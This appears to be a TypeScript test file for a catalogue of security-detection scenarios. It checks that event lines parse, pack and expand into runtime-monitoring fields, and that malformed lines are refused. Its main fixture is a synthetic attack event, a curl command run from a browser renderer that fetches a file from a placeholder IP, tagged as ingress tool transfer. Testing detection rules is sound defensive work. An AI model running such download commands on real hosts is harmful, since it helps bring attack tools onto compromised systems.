// rules/events as it lies there: what is wrong with a line is said by file and line, and a line gives back
// the event it was made from.
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { faults, lines, presets } from '#events';
import { readEvents } from '../cli/events.ts';
import type { Fields } from '../evaluation/values/fields.ts';
import { scenarios } from './catalogue.ts';
import type { EventLine } from './event-line.ts';
import { expandEvent } from './expand-event.ts';
import { packLines, unpackLines } from './pack-lines.ts';
import { readLines } from './read-lines.ts';
import { scenariosOf } from './scenarios-of.ts';
import { shortenEvent } from './shorten-event.ts';

const good: EventLine = {
  id: 'a',
  title: 'curl run from a renderer',
  like: 'execve in a browser session',
  run: '/usr/bin/curl -s http://192.0.2.1/x',
  below: 'renderer of chromium',
  source: 'synthetic',
  proves: 'tunnel-tool, 18 T1105',
};

function read(line: object | string, path = 'x.jsonl') {
  const text = typeof line === 'string' ? line : `${JSON.stringify(line)}\n`;
  const found = readLines([{ path, text }], presets);
  return { ...found, scenarios: scenariosOf(found.lines, presets) };
}

const expandLine = (short: ReturnType<typeof shortenEvent>): Fields =>
  expandEvent({ ...good, run: undefined, below: undefined, ...short } as EventLine, presets);

describe('rules/events', () => {
  it('is read without a fault, and alike by Node and by the site', () => {
    expect(faults).toEqual([]);
    expect(readEvents()).toEqual({ lines, faults, presets });
  });

  it('is packed without a loss, to less than 60 KB', () => {
    const packed = packLines(lines);
    expect(unpackLines(packed)).toEqual(lines);
    const ids = ['a', 'b-0002', 'b-0001', '-9999', 'x-12345', 'b-00002', ''];
    const some = ids.map((id) => ({ path: 'x.jsonl', line: { ...good, id } }));
    expect(unpackLines(packLines(some))).toEqual(some);
    expect(gzipSync(JSON.stringify([packed, presets])).length).toBeLessThan(60_000);
  });

  it('holds no preset that is used by nothing', () => {
    const all = lines.map(({ line }) => line);
    const programs = [...all, ...Object.values(presets.programs)].map(({ below }) => below);
    const used = new Set([...programs, ...all.map(({ by }) => by)]);
    expect(Object.keys(presets.programs).filter((one) => !used.has(one))).toEqual([]);
    const like = all.map((line) => line.like);
    const unlike = (kind: 'calls' | 'places', fits: (line: string, name: string) => boolean) =>
      Object.keys(presets[kind]).filter((name) => !like.some((line) => fits(line, name)));
    expect(unlike('calls', (line, name) => line.startsWith(`${name} in `))).toEqual([]);
    expect(unlike('places', (line, name) => line.endsWith(` in ${name}`))).toEqual([]);
  });
});

describe('a line', () => {
  it('says the event, its file whether it is an attack', () => {
    const [attack] = read(good).scenarios;
    expect(attack).toMatchObject({
      id: 'a',
      kind: 'attack',
      expect: 'fires',
      image: 'browser-rdp-bookworm',
      capability: 'tunnel-tool',
      threat: '18 T1105',
    });
    expect(attack?.fields).toMatchObject({
      'evt.type': 'execve',
      'container.name': 'rdp-chromium',
      'proc.name': 'curl',
      'proc.exepath': '/usr/bin/curl',
      'proc.cmdline': 'curl -s http://192.0.2.1/x',
      'proc.pname': 'chromium',
      'proc.aname[2]': 'chromium',
      'user.uid': 1000,
      'evt.arg.args': '-s.http://192.0.2.1/x.',
    });
    const normal = read({ ...good, debatable: 'why', proves: 'exec' }, 'normal/x.jsonl');
    expect(normal.scenarios[0]).toMatchObject({
      kind: 'normal',
      expect: 'silent',
      group: 'exec',
      debatable: true,
      why: 'why',
    });
  });

  it('goes before its presets, and null takes a field away', () => {
    const fields = { 'proc.exe': 'x', 'container.name': null, 'evt.rawres': -13 };
    const [event] = read({ ...good, as: 'root', fields }).scenarios;
    expect(event?.fields).toMatchObject({ 'proc.exe': 'x', 'user.uid': 0, 'evt.failed': true });
    expect(event?.fields).not.toHaveProperty('container.name');
  });

  it('names a connection once', () => {
    const { run: _, ...line } = good;
    const fields = { 'fd.name': '10.244.1.23:40112->[2001:db8::1]:443' };
    const four = { 'fd.name': '10.244.1.23:40112->203.0.113.66:443' };
    const like = 'connect over TCP in a browser session';
    expect(read({ ...line, like, fields: four }).scenarios[0]?.fields).toMatchObject({
      'fd.sip': '203.0.113.66',
      'fd.rport': 443,
      'fd.sproto': '443',
      'fd.typechar': '4',
      'evt.arg.addr': '203.0.113.66:443',
    });
    expect(read({ ...line, like, fields }).faults).toEqual([]);
  });

  it.each<[string, object | string, string]>([
    ['no JSON', '{', 'x.jsonl:1: not read as JSON'],
    ['no object', '[]', 'x.jsonl:1: not an object'],
    ['no id', { ...good, id: undefined }, '"id" is missing'],
    ['an id that is no text', { ...good, id: 1 }, '"id" is not a text'],
    [
      'a slip in a key',
      { ...good, titles: 'x' },
      '"titles" is not a key of an event; did you mean "title"?',
    ],
    ['an unknown source', { ...good, source: 'guessed' }, 'recorded, derived, synthetic'],
    ['two actors', { ...good, by: 'tini' }, '"by" and "run"'],
    ['an unknown call', { ...good, like: 'exceve in a browser session' }, 'did you mean "execve"?'],
    [
      'an unknown place',
      { ...good, like: 'execve in a browser' },
      'did you mean "a browser session"?',
    ],
    ['no place', { ...good, like: 'execve' }, 'no place ""'],
    ['an unknown user', { ...good, as: 'rooot' }, 'no user "rooot"; did you mean "root"?'],
    ['an unknown parent', { ...good, below: 'constructor' }, 'no program "constructor"'],
    ['a list of fields', { ...good, fields: [] }, '"fields" is not an object'],
    ['an object as a value', { ...good, fields: { 'proc.name': {} } }, '"proc.name" has no value'],
    ['a number in words', { ...good, pid: '1' }, '"pid" is not a number'],
  ])('is refused with %s', (_, line, message) => {
    const refused = read(line);
    expect(refused.lines).toEqual([]);
    expect(refused.faults.join('\n')).toContain(message);
  });

  it('is refused where its id is taken', () => {
    const text = `${JSON.stringify(good)}\n${JSON.stringify(good)}\n`;
    const twice = read(text);
    expect(twice.lines).toHaveLength(1);
    expect(twice.faults).toEqual(['x.jsonl:2: the id "a" is taken, in x.jsonl']);
  });
});

describe('an event', () => {
  const event = fc.constantFrom(...scenarios()).map(({ fields }) => fields);
  const value = fc.oneof(fc.string(), fc.integer(), fc.boolean());
  const name = fc.constantFrom(
    ...new Set(scenarios().flatMap(({ fields }) => Object.keys(fields))),
    'proc.env',
  );

  it('is what its shortest line expands to, whatever is altered of it', () => {
    fc.assert(
      fc.property(event, fc.dictionary(name, value, { maxKeys: 4 }), name, (one, more, less) => {
        const { [less]: _, ...altered } = { ...one, ...more };
        expect(expandLine(shortenEvent(altered, presets))).toEqual(altered);
      }),
      { numRuns: 60 },
    );
  });
});
